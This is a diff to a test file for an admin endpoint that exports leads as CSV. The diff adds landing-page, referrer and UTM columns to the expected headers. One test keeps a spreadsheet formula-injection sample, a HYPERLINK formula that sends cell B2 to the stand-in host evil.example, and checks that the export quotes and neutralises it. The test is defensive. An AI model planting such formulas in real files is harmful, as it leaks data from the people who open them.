@@ -104,8 +104,9 @@ describe('lead tools', () => {
     const text = res.body as string;
     expect(text.startsWith('\uFEFF')).toBe(true);
     const rows = withoutIds(parse(text.slice(1)) as string[][]);
-    // The pipeline columns (issue 35) come last, so readers of the earlier columns by position keep working.
-    expect(rows[0]).toEqual(['Name', 'Email', 'Company', 'Date', 'Status', 'Owner', 'Owner ID', 'Labels']);
+    // The pipeline columns (issue 35) come after the lead's own, then where the visit came from (issue 32): readers of the earlier columns by position keep working.
+    expect(rows[0].slice(0, 8)).toEqual(['Name', 'Email', 'Company', 'Date', 'Status', 'Owner', 'Owner ID', 'Labels']);
+    expect(rows[0].slice(8, 10)).toEqual(['Landing Page', 'Referrer']);
     expect(rows.slice(1).map((r) => r[0])).toEqual([
       'Dee Now',
       'Bea Three',
@@ -119,7 +120,7 @@ describe('lead tools', () => {
   it('quotes every field, so a reader that splits cells on ; or TAB never finds a formula at a cell start', async () => {
     const text = (await admin.get('/api/admin/playbook-leads/export.csv').buffer(true)).text.slice(1);
     const lines = text.split('\r\n').filter(Boolean);
-    expect(lines[0]).toBe('"ID","Name","Email","Company","Date","Status","Owner","Owner ID","Labels"');
+    expect(lines[0]).toMatch(/^"ID","Name","Email","Company","Date","Status","Owner","Owner ID","Labels","Landing Page",/);
     for (const line of lines) expect(line).toMatch(/^"[^]*"$/);
     expect(text).toContain(`"'Bob;=HYPERLINK(""http://evil.example/?d=""&B2,""Click"")","bob@example.com","'\t=1+2",`);
   });
@@ -139,6 +140,17 @@ describe('lead tools', () => {
       'Owner',
       'Owner ID',
       'Labels',
+      // Where each lead's visit came from (issue 32).
+      'Landing Page',
+      'Referrer',
+      'UTM Source',
+      'UTM Medium',
+      'UTM Campaign',
+      'UTM Term',
+      'UTM Content',
+      'Pages Before Lead',
+      'Tools Before Lead',
+      'Seconds To Lead',
     ]);
     expect(allRows).toHaveLength(3);
     const week = allRows.find((r) => r[0] === 'Cy Week')!;
